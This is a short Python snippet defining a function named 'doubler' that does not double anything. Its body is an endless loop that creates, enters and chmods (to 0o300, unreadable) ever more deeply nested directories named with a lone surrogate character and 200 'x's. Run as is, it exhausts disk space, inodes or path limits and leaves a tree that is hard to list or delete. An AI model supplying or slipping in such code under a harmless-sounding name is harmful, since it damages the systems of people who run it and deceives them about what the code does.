import os

def doubler(n):
    while True:
        os.mkdir("\udcff" + "x" * 200)
        os.chdir("\udcff" + "x" * 200)
        os.chmod(".", 0o300)
